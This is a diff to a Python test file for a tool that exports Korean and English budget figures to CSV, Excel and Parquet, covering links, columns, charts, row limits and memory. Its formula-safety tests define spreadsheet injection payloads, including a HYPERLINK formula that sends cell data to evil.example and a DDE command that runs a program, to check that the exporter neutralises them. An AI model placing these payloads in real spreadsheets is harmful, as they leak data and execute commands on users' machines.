@@ -104,7 +104,13 @@ def read_csv(path: Path) -> list[dict[str, str]]:
 
 def test_records_csv(exported) -> None:
     corpus, out, paths = exported
-    assert [p.name for p in paths] == ["records.csv", "documents.csv", "records.xlsx"]
+    assert [p.name for p in paths] == [
+        "records.csv",
+        "documents.csv",
+        "records.xlsx",
+        "records.parquet",
+        "corrections.csv",
+    ]
     raw = (out / "records.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it as UTF-8
     assert b"\r\n" in raw  # RFC 4180 line ends
@@ -128,7 +134,9 @@ def test_records_csv(exported) -> None:
     assert rows[0]["amount_display"] == "3.95 trillion won"
     assert rows[1]["amount_display"] == "$2.9 billion"
     assert rows[4]["start"] == str(KO.index("153억원"))
-    assert rows[4]["source"] == (corpus / "ko/광주 예산.txt").resolve().as_uri()
+    # relative to the outputs folder, so a zipped outputs/ next to its corpus still works
+    assert rows[4]["source"] == "../corpora/ko/광주 예산.txt"
+    assert rows[4]["status"] == "unreviewed"
     assert rows[4]["vague"] == ""
 
 
@@ -162,7 +170,7 @@ def test_records_xlsx(exported) -> None:
     assert wb.sheetnames == ["records", "documents", "projects"]
     ws = wb["records"]
     assert ws.freeze_panes == "A2"
-    assert ws.auto_filter.ref == f"A1:S{ws.max_row}"
+    assert ws.auto_filter.ref == f"A1:U{ws.max_row}"
     assert [c.value for c in ws[1]] == RECORD_COLUMNS
     assert ws["A1"].font.b
     col = {name: i for i, name in enumerate(RECORD_COLUMNS)}
@@ -180,7 +188,9 @@ def test_records_xlsx(exported) -> None:
     assert ko[col["vague"]].value is False
     link = ko[col["source"]].hyperlink
     assert link is not None
-    assert link.target == (corpus / "ko/광주 예산.txt").resolve().as_uri()
+    # Excel's own form of a relative link (backslashes), percent-encoded
+    assert link.target == "..\\corpora\\ko\\%EA%B4%91%EC%A3%BC%20%EC%98%88%EC%82%B0.txt"
+    assert ko[col["source"]].value == "../corpora/ko/광주 예산.txt"
     assert rows[1][col["currency"]].value == "USD"
     # Korean (double-width) columns are sized wider than their character count.
     assert ws.column_dimensions["B"].width >= text_width("1조 3,675억 원")
@@ -202,7 +212,7 @@ def test_records_xlsx(exported) -> None:
     table = [dict(zip(header, [c.value for c in r], strict=True)) for r in projects.iter_rows(2)]
     shared = next(t for t in table if t["project"] == "인공지능 전략사업")
     # A Korean name and an English one with the same project_id are summed together.
-    assert shared["total"] == 15300000000 + 61700000000
+    assert shared["distinct_total"] == 15300000000 + 61700000000
     assert shared["mentions"] == 2 and shared["documents"] == 2
     assert shared["languages"] == "en, ko"
     assert "AI, mobility city" in shared["written_as"]
@@ -313,3 +323,292 @@ def test_libreoffice_reads_korean_xlsx(exported, tmp_path: Path) -> None:
     assert ko[1] == "3조9497억원"
     assert ko[2].replace(",", "") == "3949700000000"  # a real number, shown with separators
     assert ko[RECORD_COLUMNS.index("amount_display")] == "3조 9,497억 원"
+
+
+# -- formula safety ----------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _hostile(tmp_path: Path, payloads: list[str]) -> tuple[Path, Path]:
+    corpus, out = tmp_path / "corpora", tmp_path / "outputs"
+    corpus.mkdir()
+    results = []
+    for i, payload in enumerate(payloads):
+        name = f"{payload[:12].replace('/', '_')}{i}.txt"
+        text = f"{payload} 예산 153억원"
+        (corpus / name).write_text(text, encoding="utf-8")
+        results.append(
+            DocResult(
+                name,
+                f"{i}" * 64,
+                1,
+                1,
+                EXTRACTED,
+                lang="ko",
+                text=text,
+                records=[rec(name, text, "153억원", 15300000000, project=payload)],
+            )
+        )
+    with Store(out / "extract.sqlite") as store:
+        store.save(results)
+        export_all(store, out, corpus)
+    return corpus, out
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> tuple[Path, Path]:
+    """Sentences, projects and file names that start like formulas."""
+    return _hostile(tmp_path, HOSTILE)
+
+
+def test_workbook_text_cells_are_never_formulas(hostile) -> None:
+    import zipfile
+
+    _, out = hostile
+    with zipfile.ZipFile(out / "records.xlsx") as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)
+    wb = load_workbook(out / "records.xlsx")
+    ws = wb["records"]
+    col = {c.value: i for i, c in enumerate(ws[1])}
+    seen = set()
+    for row in ws.iter_rows(min_row=2):
+        for name in ("doc", "project", "sentence", "source"):
+            assert row[col[name]].data_type == "s"
+        # openpyxl does not unescape the _x000D_ that xlsx uses for a CR
+        seen.add(row[col["project"]].value.replace("_x000D_", "\r"))
+    assert seen == set(HOSTILE)  # kept as written, as text
+    for row in wb["documents"].iter_rows(min_row=2):
+        assert row[0].data_type == "s"
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(hostile) -> None:
+    _, out = hostile
+    rows = read_csv(out / "records.csv")
+    for r in rows:
+        for name in ("project", "sentence", "doc", "source"):
+            value = r[name]
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
+    assert {r["project"] for r in rows} == {"'" + p for p in HOSTILE}
+    assert all(r["amount"] == "15300000000" for r in rows)  # numbers untouched
+    assert {export_mod.csv_cell_back(r["project"]) for r in rows} == set(HOSTILE)
+    assert export_mod.csv_safe("-5") == "-5" and export_mod.csv_safe("-x") == "'-x"
+    docs = read_csv(out / "documents.csv")
+    assert all(d["doc"][0] not in "=+-@\t\r" for d in docs)
+
+
+def test_gold_reads_neutralised_csv_back_as_written(tmp_path: Path) -> None:
+    from extract.gold import sheet_to_labeled_set
+
+    visible = HOSTILE[:4]  # gold trims surrounding whitespace of every cell
+    corpus, out = _hostile(tmp_path, visible)
+    sheet_to_labeled_set(out / "records.csv", tmp_path / "set", corpus)
+    gold = read_csv(tmp_path / "set" / "gold.csv")
+    assert {g["project"] for g in gold} == set(visible)
+
+
+# -- widths, heights, charts, row limit, parquet ------------------------------
+
+
+def _big(tmp_path: Path) -> tuple[Path, Path]:
+    corpus, out = tmp_path / "corpora", tmp_path / "outputs"
+    corpus.mkdir()
+    long = "광주광역시 인공지능 중심 산업융합 집적단지 조성사업 예산이 크게 늘었다. " * 6
+    text = long + " 총 69조6366억원, 1경2345조원, 500억원"
+    (corpus / "big.txt").write_text(text, encoding="utf-8")
+    records = [
+        rec("big.txt", text, "69조6366억원", 69636600000000, project="국가 예산"),
+        rec("big.txt", text, "1경2345조원", 12345000000000000, project="국가 예산"),
+        rec("big.txt", text, "500억원", 50000000000, project="AI 사업"),
+    ]
+    for r in records:
+        r.sentence = long
+    with Store(out / "extract.sqlite") as store:
+        store.save(
+            [DocResult("big.txt", "e" * 64, 1, 1, EXTRACTED, lang="ko", text=text, records=records)]
+        )
+        export_all(store, out, corpus)
+    return corpus, out
+
+
+def test_numbers_fit_their_columns_and_sentences_get_row_heights(tmp_path: Path) -> None:
+    from openpyxl.utils import get_column_letter
+
+    _, out = _big(tmp_path)
+    wb = load_workbook(out / "records.xlsx")
+    for name in ("records", "projects"):
+        ws = wb[name]
+        for row in ws.iter_rows(min_row=2):
+            for cell in row:
+                if isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
+                    shown = f"{cell.value:,}" if cell.number_format == "#,##0" else str(cell.value)
+                    width = ws.column_dimensions[get_column_letter(cell.column)].width
+                    assert width >= len(shown) + 1, (name, cell.coordinate, shown, width)
+    ws = wb["records"]
+    col = {c.value: i + 1 for i, c in enumerate(ws[1])}
+    assert ws.cell(2, col["sentence"]).alignment.wrap_text
+    assert ws.row_dimensions[2].height >= 3 * export_mod.LINE_POINTS  # wrapped: several lines
+    assert ws.cell(2, col["project_score"]).value is None  # not scored: empty, still sortable
+    assert ws.cell(2, col["status"]).value == "unreviewed"
+
+
+def test_projects_sheet_has_a_bar_chart_per_currency(tmp_path: Path) -> None:
+    import zipfile
+
+    _, out = _big(tmp_path)
+    with zipfile.ZipFile(out / "records.xlsx") as z:
+        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
+        assert len(charts) == 1
+        xml = z.read(charts[0]).decode()
+    assert "<c:barChart>" in xml and "projects!$C$2:$C$3" in xml and "projects!$A$2:$A$3" in xml
+    wb = load_workbook(out / "records.xlsx")
+    assert wb.sheetnames == ["records", "documents", "projects"]
+    header = [c.value for c in wb["projects"][1]]
+    assert header[:4] == ["project", "currency", "distinct_total", "distinct_total_display"]
+
+
+def test_row_limit_is_said_plainly(tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.setattr(export_mod, "XLSX_MAX_RECORDS", 2)
+    corpus, out = tmp_path / "corpora", tmp_path / "outputs"
+    corpus.mkdir()
+    results = sample(corpus)
+    notes: list[str] = []
+    with Store(out / "extract.sqlite") as store:
+        store.save(results)
+        export_all(store, out, corpus, notes)
+    wb = load_workbook(out / "records.xlsx")
+    assert wb.sheetnames[0] == "note"
+    note = wb["note"]["A1"].value
+    assert "first 2 rows of 6" in note and "records.csv and records.parquet" in note
+    assert wb["records"].max_row == 3  # header + 2
+    assert len(read_csv(out / "records.csv")) == 6
+    assert any("first 2 rows of 6" in n for n in notes)
+
+
+def test_parquet_has_exact_amounts(exported) -> None:
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    _, out, _ = exported
+    table = pq.read_table(out / "records.parquet")
+    assert table.column_names == RECORD_COLUMNS
+    assert table.schema.field("amount").type == pa.decimal128(38, 4)
+    assert table.schema.field("start").type == pa.int64()
+    amounts = table.column("amount").to_pylist()
+    assert Decimal("3949700000000") in amounts and all(isinstance(a, Decimal) for a in amounts)
+    assert export_mod.parquet_decimal(Decimal(10) ** 40) is None  # never rounded: left empty
+    assert export_mod.parquet_decimal(Decimal("0.00001")) is None
+    assert export_mod.parquet_decimal(Decimal("2.5")) == Decimal("2.5000")
+
+
+def test_libreoffice_keeps_widths_and_row_heights(tmp_path: Path) -> None:
+    if _soffice() is None:
+        pytest.skip("LibreOffice (soffice) is not on PATH: install libreoffice-calc-nogui")
+    _, out = _big(tmp_path)
+    conv = tmp_path / "lo"
+    profile = (tmp_path / "lo-profile").resolve().as_uri()
+    result = subprocess.run(
+        [
+            _soffice(),
+            f"-env:UserInstallation={profile}",
+            "--headless",
+            "--convert-to",
+            "xlsx:Calc MS Excel 2007 XML",
+            "--outdir",
+            str(conv),
+            str(out / "records.xlsx"),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=180,
+    )
+    assert result.returncode == 0, result.stderr
+    ws = load_workbook(conv / "records.xlsx")["records"]
+    col = {c.value: i + 1 for i, c in enumerate(ws[1])}
+    assert ws.cell(2, col["amount"]).value == 69636600000000
+    assert (
+        ws.cell(3, col["amount"]).value == 12345000000000000
+        or ws.cell(3, col["amount"]).value == "12345000000000000"
+    )
+    assert ws.row_dimensions[2].height >= 3 * export_mod.LINE_POINTS
+    from openpyxl.utils import get_column_letter
+
+    width = ws.column_dimensions[get_column_letter(col["amount"])].width
+    assert width >= len("69,636,600,000,000")
+
+
+def _synthetic_store(out: Path, corpus: Path, docs: int) -> Store:
+    corpus.mkdir(parents=True, exist_ok=True)
+    store = Store(out / "extract.sqlite")
+    batch = []
+    for i in range(docs):
+        name = f"d{i:05d}.txt"
+        # figures repeat across documents (as budgets do across articles), so the
+        # distinct figures a project total keeps are bounded
+        j = i % 50
+        text = f"광주시 사업 {j}억원 확보. 인공지능 예산 {j + 7}억원, 도로 {i % 13 + 1}억원.\n" * 3
+        records = [
+            rec(name, text, f"{j}억원", j * 10**8, project="사업"),
+            rec(name, text, f"{j + 7}억원", (j + 7) * 10**8, project="인공지능 사업"),
+            rec(name, text, f"{i % 13 + 1}억원", (i % 13 + 1) * 10**8, project="도로"),
+        ]
+        batch.append(DocResult(name, f"{i:064d}", 1, 1, EXTRACTED, lang="ko", text=text,
+                               records=records))  # fmt: skip
+        if len(batch) == 200:
+            store.save(batch)
+            batch = []
+    store.save(batch)
+    return store
+
+
+_MEASURE_EXPORT = """
+import json, sys, tracemalloc
+from pathlib import Path
+sys.path.insert(0, sys.argv[2])
+import test_export as t
+from extract import export as export_mod
+export_mod.PARQUET_BATCH = 500
+export_mod._FORGET_ROWS = 500
+export_mod.EXCEL_MAX_LINKS = 200  # links stay in memory until close: at most 65,000 a sheet
+tmp = Path(sys.argv[1])
+with t._synthetic_store(tmp / "warm", tmp / "warm-corpus", 5) as store:
+    export_mod.export_all(store, tmp / "warm", tmp / "warm-corpus")  # imports, caches
+peaks = {}
+for docs in (300, 1200):
+    out, corpus = tmp / f"out{docs}", tmp / f"corpus{docs}"
+    with t._synthetic_store(out, corpus, docs) as store:
+        tracemalloc.start()
+        export_mod.export_all(store, out, corpus)
+        peaks[docs] = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+    assert len(t.read_csv(out / "records.csv")) == 3 * docs
+print(json.dumps(peaks))
+"""
+
+
+def test_export_memory_does_not_grow_with_the_corpus(tmp_path: Path) -> None:
+    """Exports stream from the store: 4x the documents, about the same peak Python heap
+    (parquet batches and the row-height purge small enough to act at both sizes).
+    Measured in a fresh interpreter, so no other test's threads or garbage count."""
+    import json
+    import sys
+
+    here = Path(__file__).resolve().parent
+    result = subprocess.run(
+        [sys.executable, "-c", _MEASURE_EXPORT, str(tmp_path), str(here)],
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
+    assert result.returncode == 0, result.stderr[-3000:]
+    peaks = {int(k): v for k, v in json.loads(result.stdout.strip().splitlines()[-1]).items()}
+    # measured 2.2 MB and 2.9 MB (2026-11-29); holding every record would be over 3x
+    assert peaks[1200] < 1.5 * peaks[300], peaks
